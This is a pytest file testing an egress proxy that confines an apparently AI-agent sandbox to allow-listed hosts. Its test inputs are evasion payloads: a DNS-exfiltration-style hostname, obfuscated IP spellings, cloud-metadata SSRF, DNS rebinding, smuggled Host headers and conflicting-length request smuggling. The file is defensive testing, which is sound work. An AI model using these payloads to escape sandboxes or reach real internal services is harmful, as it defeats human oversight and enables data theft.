"""What does not pass. Each attack is also made where it must succeed: through an open broker, or with the host listed."""

from __future__ import annotations

import re
import socket
import ssl
import threading

import httpx
import net
import pytest
from world import API, OTHER, PLAIN, Broker, World, read_answer

pytestmark = pytest.mark.usefixtures("inside")


def get(broker: Broker, url: str) -> httpx.Response:
    """GET through the broker, also where CONNECT is refused (which httpx raises)."""
    with broker.client() as client:
        return client.get(url)


def refusal(broker: Broker, target: str) -> str:
    """The answer to CONNECT, of which the first line says 403."""
    sock, answer = broker.connect(target)
    sock.close()
    assert answer.startswith("HTTP/1.1 403 "), answer
    return answer


def test_listed_hosts_pass(shared: Broker) -> None:
    assert get(shared, f"https://{PLAIN}/").json()["path"] == "/"
    assert get(shared, f"https://{API}/").status_code == 200
    assert get(shared, f"http://{PLAIN}/").status_code == 200


def test_unlisted_host_is_403_with_the_command_that_allows_it(shared: Broker, unguarded: Broker) -> None:
    answer = refusal(shared, f"{OTHER}:443")
    assert f"on the host: agentbox allow {OTHER}\r\n" in answer
    assert f"{OTHER} is not on the allow-list (rule: default)" in answer
    assert f"`agentbox allow {OTHER} --agent claude`" in answer
    assert get(unguarded, f"https://{OTHER}/").status_code == 200


def test_unlisted_host_is_403_on_plain_http(shared: Broker, unguarded: Broker) -> None:
    answer = get(shared, f"http://{OTHER}/")
    assert answer.status_code == 403
    assert f"agentbox allow {OTHER}" in answer.text
    assert get(unguarded, f"http://{PLAIN}/").status_code == 200


def test_name_is_not_looked_up_before_it_is_allowed(shared: Broker, unguarded: Broker, world: World) -> None:
    refusal(shared, "c2VjcmV0.exfiltration.example:443")
    assert "c2VjcmV0.exfiltration.example".lower() not in world.names.asked
    unguarded.connect("c2VjcmV0.exfiltration.example:443")
    assert "c2VjcmV0.exfiltration.example".lower() in world.names.asked


@pytest.mark.parametrize("port", [22, 25, 8443, 53])
def test_other_ports_of_a_listed_host_are_refused(shared: Broker, port: int) -> None:
    assert f"agentbox allow {PLAIN}:{port}" in refusal(shared, f"{PLAIN}:{port}")


def test_listed_port_passes(world: World) -> None:
    with world.broker(world.rules(allow=[{"host": PLAIN, "ports": [8443]}])) as broker:
        assert get(broker, f"https://{PLAIN}:8443/").status_code == 200
        refusal(broker, f"{PLAIN}:443")


def test_wildcard_is_what_is_below(shared: Broker) -> None:
    assert get(shared, "https://a.below.example/").status_code == 200
    refusal(shared, "below.example:443")
    refusal(shared, "xbelow.example:443")


SPELLINGS = [
    "93.184.0.10", "1572339722", "0x5db8000a", "0135.0270.0.012", "93.12058634", "[::ffff:93.184.0.10]", "[::ffff:5db8:a]",
    "[64:ff9b::5db8:a]", "[2002:5db8:a::1]",
]  # fmt: skip


@pytest.mark.parametrize("address", SPELLINGS)
def test_addresses_are_refused_in_every_spelling(shared: Broker, unguarded: Broker, address: str) -> None:
    for broker in (shared, unguarded):
        sock, answer = broker.connect(f"{address}:443")
        sock.close()
        assert not answer.startswith("HTTP/1.1 200"), answer
    assert not [line for line in shared.audit() if line["verdict"] == "allow" and line["host"] == address]


def test_listed_address_passes(world: World) -> None:
    with world.broker(world.rules(allow=[{"host": net.PUBLIC}])) as broker:
        assert get(broker, f"https://{net.PUBLIC}/").status_code == 200
        refusal(broker, f"{net.OTHER_PUBLIC}:443")


@pytest.mark.parametrize(
    ("name", "what"),
    [
        ("private.example", "a private address"),
        ("metadata.example", "a cloud's metadata service"),
        ("loopback.example", "the broker's own loopback"),
        ("zero.example", "this host"),
    ],
)
def test_listed_name_that_leads_inside_is_refused(world: World, name: str, what: str) -> None:
    with world.broker(world.rules(mode="open", allow=[{"host": name}])) as broker:
        answer = get(broker, f"http://{name}/")
        assert answer.status_code == 403
        assert what in answer.text
        assert ("--private" in answer.text) == (name == "private.example")
        assert "403" in refusal(broker, f"{name}:443")
    assert not world.application.seen and not world.metadata.seen


def test_metadata_service_is_there_without_the_broker(world: World) -> None:
    """The control: who is not behind the broker reaches what the test above did not."""
    assert httpx.get("http://169.254.169.254/", trust_env=False).status_code == 200
    assert world.metadata.seen


def test_private_host_passes_where_it_is_listed_so(world: World) -> None:
    allow = [{"host": "private.example", "private": True}, {"host": "metadata.example", "private": True}]
    with world.broker(world.rules(allow=allow)) as broker:
        assert get(broker, "http://private.example/").status_code == 200
        assert get(broker, "http://metadata.example/").status_code == 403
    assert not world.metadata.seen


def test_of_mixed_answers_only_the_public_ones_are_used(world: World) -> None:
    with world.broker(world.rules(allow=[{"host": "mixed.example"}])) as broker:
        assert get(broker, "http://mixed.example/").status_code == 200


def test_rebinding_name_reaches_the_address_that_was_judged(world: World) -> None:
    """The second answer would lead to the metadata service; nobody asks for it."""
    world.names.answers["rebinding.example"] = [net.PUBLIC, "169.254.169.254"]
    with world.broker(world.rules(allow=[{"host": "rebinding.example"}])) as broker:
        assert get(broker, "http://rebinding.example/").status_code == 200
    assert world.application.seen and not world.metadata.seen
    # The control: whoever looks it up again is led there.
    assert world.names.answers["rebinding.example"] == ["169.254.169.254"]


def test_rebound_name_is_refused_once_it_is_looked_up_again(world: World) -> None:
    world.names.answers["rebound.example"] = ["169.254.169.254"]
    with world.broker(world.rules(allow=[{"host": "rebound.example"}])) as broker:
        assert get(broker, "http://rebound.example/").status_code == 403
    assert not world.metadata.seen


def test_redirect_to_an_unlisted_host_is_refused(shared: Broker, unguarded: Broker) -> None:
    url = f"https://{PLAIN}/redirect?to=http://{OTHER}/"
    with shared.client(follow_redirects=True) as client:
        assert client.get(url).status_code == 403
    with unguarded.client(follow_redirects=True) as client:
        assert client.get(f"https://{PLAIN}/redirect?to=https://{OTHER}/").json()["headers"]["host"] == OTHER


@pytest.mark.parametrize("target", [PLAIN, API])
@pytest.mark.parametrize("server_name", [OTHER, "a.below.example"])
def test_another_server_name_in_a_tunnel_is_closed(shared: Broker, target: str, server_name: str) -> None:
    with pytest.raises((ssl.SSLError, ConnectionError)) as caught:
        shared.tunnel(f"{target}:443", server_name)
    assert "unrecognized name" in str(caught.value).lower().replace("_", " ")
    assert f"TLS to {server_name} in a tunnel to {target}" in [line["reason"] for line in shared.audit()]


def test_another_server_name_passes_where_nothing_is_listed(unguarded: Broker) -> None:
    """The control: the same handshake through a broker in mode open."""
    unguarded.tunnel(f"{PLAIN}:443", OTHER).close()


def test_no_server_name_is_closed(shared: Broker, unguarded: Broker, world: World) -> None:
    context = world.trust()
    context.check_hostname = False
    sock, _ = shared.connect(f"{PLAIN}:443")
    with pytest.raises((ssl.SSLError, ConnectionError)):
        context.wrap_socket(sock)
    sock, _ = unguarded.connect(f"{PLAIN}:443")
    context.wrap_socket(sock).close()


def request(broker: Broker, tunnel_to: str, head: str, port: int = 443) -> str:
    """What comes back on a raw request within TLS."""
    with broker.tunnel(f"{tunnel_to}:{port}", tunnel_to, ["http/1.1"]) as sock:
        sock.sendall(head.encode())
        sock.settimeout(2)
        try:
            return read_answer(sock)
        except TimeoutError:
            return "nothing"


@pytest.mark.parametrize(
    "head",
    [
        f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {API}:8443\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {API}\r\nHost: {OTHER}\r\n\r\n",
        f"GET https://{OTHER}/ HTTP/1.1\r\nHost: {API}\r\n\r\n",
        f"GET / HTTP/1.1\r\nHost: {OTHER}\r\nContent-Length: 9999999999\r\n\r\n",
        f"CONNECT {OTHER}:443 HTTP/1.1\r\nHost: {OTHER}:443\r\n\r\n",
        f"\r\nGET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n",
    ],
)
def test_another_host_inside_intercepted_tls_is_refused(shared: Broker, world: World, head: str) -> None:
    answer = request(shared, API, head)
    assert not answer.startswith("HTTP/1.1 200"), answer
    assert not [one for one in world.application.seen if OTHER in one["headers"].get("host", "")]


@pytest.mark.parametrize(
    "line",
    [
        f"X: a\r\n Host: {OTHER}",
        f"X: y\rHost: {OTHER}",
        f"X: y\nHost: {OTHER}",
        f"Host : {OTHER}",
        f"X: \0\r\nHost:{OTHER}",
    ],
)
def test_hidden_host_header_leads_nowhere(world: World, line: str) -> None:
    """Lines that two programs may read in two ways. The control is a server that does so: what reaches it through a
    broker that does not look inside names the other host to it."""
    with LaxServer(world) as server:
        head = f"GET / HTTP/1.1\r\nHost: {API}:{LaxServer.PORT}\r\n{line}\r\n\r\n"
        allow = [{"host": API, "ports": [LaxServer.PORT]}]
        with world.broker(world.rules(allow=allow)) as broker:
            request(broker, API, head, LaxServer.PORT)
        assert OTHER not in server.hosts
        with world.broker(world.rules(allow=allow, inject=[])) as broker:
            request(broker, API, head, LaxServer.PORT)
        assert OTHER in server.hosts


class LaxServer:
    """A TLS server that takes every line end, folds nothing and strips everything. `hosts` is what it has read as Host."""

    PORT = 9444

    def __init__(self, world: World) -> None:
        self.hosts: list[str] = []
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.context.load_cert_chain(world.folder / "provider.pem")
        self.listener = socket.create_server((net.PUBLIC, self.PORT))

    def __enter__(self) -> LaxServer:
        threading.Thread(target=self._serve, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self.listener.shutdown(socket.SHUT_RDWR)
        self.listener.close()

    def _serve(self) -> None:
        while True:
            try:
                raw, _ = self.listener.accept()
            except OSError:
                return
            try:
                with self.context.wrap_socket(raw, server_side=True) as sock:
                    data = b""
                    while not data.endswith(b"\r\n\r\n") and (chunk := sock.recv(65536)):
                        data += chunk
                    fields = (text.partition(":") for text in re.split("[\r\n]", data.decode("latin-1")))
                    self.hosts += [value.strip() for name, _, value in fields if name.strip().lower() == "host"]
                    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
            except OSError:
                continue


@pytest.mark.parametrize(
    "extra", ["Transfer-Encoding: chunked\r\nContent-Length: 3", "Content-Length: 3\r\nContent-Length: 4"]
)
def test_request_of_two_lengths_is_refused(shared: Broker, world: World, extra: str) -> None:
    answer = request(shared, API, f"POST / HTTP/1.1\r\nHost: {API}\r\n{extra}\r\n\r\n0\r\n\r\n")
    assert answer.startswith("HTTP/1.1 400") and not world.application.seen


def test_offer_of_http2_in_clear_is_not_passed_on(shared: Broker, unguarded: Broker) -> None:
    head = "GET / HTTP/1.1\r\nHost: {}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n"
    assert request(shared, API, head.format(API)).startswith("HTTP/1.1 200")
    assert request(unguarded, PLAIN, head.format(PLAIN)).startswith("HTTP/1.1 101")


def test_another_host_inside_tls_reaches_the_server_where_nothing_is_intercepted(
    unguarded: Broker, world: World
) -> None:
    """The control."""
    assert request(unguarded, PLAIN, f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n").startswith("HTTP/1.1 200")
    assert world.application.seen[-1]["headers"]["host"] == OTHER


def test_another_authority_in_http2_is_refused(shared: Broker, unguarded: Broker, world: World) -> None:
    headers = {"host": OTHER}
    with shared.client(http2=True) as client:
        answer = client.get(f"https://{API}/", headers=headers)
        assert (answer.status_code, answer.http_version) == (403, "HTTP/2")
    with unguarded.client(http2=True) as client:
        assert client.get(f"https://{PLAIN}/", headers=headers).json()["headers"]["host"] == OTHER


def test_plain_request_with_another_host_header_is_refused(shared: Broker, world: World) -> None:
    with socket.create_connection(("127.0.0.1", shared.port)) as sock:
        sock.sendall(f"GET http://{PLAIN}/ HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
        assert b"403" in sock.recv(4096)
    assert not world.application.seen
    # The control: the server itself would answer that.
    with socket.create_connection((net.PUBLIC, 80)) as sock:
        sock.sendall(f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n".encode())
        assert b"200" in sock.recv(4096)


@pytest.mark.parametrize("first", [b"SSH-2.0-OpenSSH_9.2\r\n", b"\x05\x01\x00", b"\x00" * 40])
def test_other_protocols_are_closed_on_web_ports_and_pass_on_others(shared: Broker, world: World, first: bytes) -> None:
    sock, answer = shared.connect(f"{PLAIN}:443")
    assert answer.startswith("HTTP/1.1 200")
    sock.sendall(first)
    assert sock.recv(100) == b""
    with socket.create_server((net.PUBLIC, 2222)) as server:
        with world.broker(world.rules(allow=[{"host": PLAIN, "ports": [2222]}])) as broker:
            sock, answer = broker.connect(f"{PLAIN}:2222")
            peer, _ = server.accept()
            sock.sendall(first)
            assert peer.recv(100) == first


@pytest.mark.parametrize(
    "target",
    ["", ":443", "a b:443", f"{PLAIN}", f"{PLAIN}:99999", f"{PLAIN}:443:443", f"user@{PLAIN}:443", f"{PLAIN}@{OTHER}:443",
     f"{OTHER}#{PLAIN}:443", f"{OTHER}/{PLAIN}:443", f"{PLAIN}\0.{OTHER}:443", f"{OTHER}\\.{PLAIN}:443", "pläin.example:443",
     f"{PLAIN}..:443", f".{PLAIN}:443", f"{OTHER}%00{PLAIN}:443", "[fe80::1%25eth0]:443", "[::1]:443", "localhost:80", "0:80",
     "127.1:80", "0x7f.1:80"],
)  # fmt: skip
def test_odd_targets_are_refused(shared: Broker, target: str) -> None:
    sock, answer = shared.connect(target)
    sock.close()
    assert not answer.startswith("HTTP/1.1 200"), answer


@pytest.mark.parametrize("target", [PLAIN.upper(), f"{PLAIN}."])
def test_other_spellings_of_a_listed_host_pass(shared: Broker, target: str) -> None:
    sock, answer = shared.connect(f"{target}:443")
    sock.close()
    assert answer.startswith("HTTP/1.1 200")


def test_tls_to_the_proxy_itself_is_closed(shared: Broker, world: World) -> None:
    sock = socket.create_connection(("127.0.0.1", shared.port))
    with pytest.raises((ssl.SSLError, ConnectionError)):
        world.trust().wrap_socket(sock, server_hostname=PLAIN)


def test_large_refused_body_is_not_read_into_memory(world: World) -> None:
    with world.broker() as broker:
        before = broker.resident()
        with socket.create_connection(("127.0.0.1", broker.port)) as sock:
            sock.sendall(
                f"POST http://{OTHER}/ HTTP/1.1\r\nHost: {OTHER}\r\nContent-Length: 200000000\r\n\r\n".encode()
            )
            with pytest.raises(ConnectionError):
                for _ in range(3000):
                    sock.sendall(b"x" * 65536)
        assert broker.resident() - before < 20


def test_refusals_are_in_the_audit_log_as_one_line_each(world: World) -> None:
    with world.broker() as broker:
        refusal(broker, f"{OTHER}:443")
        get(broker, f"https://{PLAIN}/?secret=1")
        lines = broker.audit()
    assert [(line["verdict"], line["host"], line["port"], line["method"]) for line in lines] == [
        ("deny", OTHER, 443, "CONNECT"),
        ("allow", PLAIN, 443, "CONNECT"),
    ]
    assert lines[0]["rule"] == "default" and lines[0]["agent"] == "claude" and lines[0]["run"] == "test"
    assert lines[0]["remedy"] == OTHER and "remedy" not in lines[1]
    assert "secret" not in str(lines)


def test_name_that_does_not_exist_is_said_so(world: World) -> None:
    with world.broker(world.rules(allow=[{"host": "nowhere.example"}, {"host": "closed.example"}])) as broker:
        _, answer = broker.connect("nowhere.example:443")
        assert answer.startswith("HTTP/1.1 502 ") and "nowhere.example" in answer
        _, answer = broker.connect("closed.example:443")
        assert answer.startswith("HTTP/1.1 502 ") and "closed.example" in answer
